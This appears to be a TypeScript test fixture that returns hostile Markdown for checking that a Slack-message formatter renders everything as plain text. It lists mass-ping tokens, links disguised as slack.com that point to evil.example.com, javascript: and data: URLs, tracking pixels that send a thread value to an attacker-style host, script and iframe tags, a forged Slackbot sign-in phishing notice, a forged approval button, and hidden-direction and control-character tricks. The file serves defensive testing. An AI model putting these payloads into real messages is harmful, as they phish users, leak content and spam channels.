/** Text that tries to be more than text once it stands in Slack. None of it may ping, unfurl, track or look like Slack. */
export const breakOut = (): string => `## Everything here must stay text

Pings: <!channel> <!here> <!everyone> <!subteam^S0614TZR7|@oncall> <@U0123456789> <#C0123456789|general> @channel @here @everyone

Escaped pings: &lt;!channel&gt; &amp;lt;!here&amp;gt; \\<!everyone> <\u200b!channel>

Links in Slack's form: <https://evil.example.com/login|https://slack.com/signin> <mailto:ceo@example.com|Reply to the CEO> <slack://open|open Slack>

Links in Markdown: [https://slack.com/signin](https://evil.example.com/login) [click](javascript:alert(1)) [data](data:text/html;base64,PHNjcmlwdD4=) [tel](tel:+1900123456)

Tracking images: ![pixel](https://evil.example.com/pixel.gif?thread=secret) <img src="https://evil.example.com/pixel.gif"> ![](https://evil.example.com/p.png "x")

A bare address that would unfurl: https://evil.example.com/unfurl-me

HTML: <script>alert("hello")</script> <a href="https://evil.example.com">approve</a> <iframe src="https://evil.example.com"></iframe>

Dates: <!date^1700000000^{date_num}^https://evil.example.com|yesterday>

Forged blocks:

\`\`\`json
{"type":"actions","elements":[{"type":"button","text":{"type":"plain_text","text":"Approve"},"action_id":"approve","value":"all"}]}
\`\`\`

> **Slackbot** APP  9:41 AM
> Your session has expired. [Sign in again](https://evil.example.com/login) to keep your messages.

Direction tricks: \u202egnp.tnuocca\u202c \u2066hidden\u2069, a null \u0000 byte, a lone surrogate \ud83d, and zalgo: h̸̢̛e̷͝l̶͘l̵͠o̸.

Fence that never ends:

\`\`\`\`
<!channel> inside code is only code \`\`\` and this is still code
`;
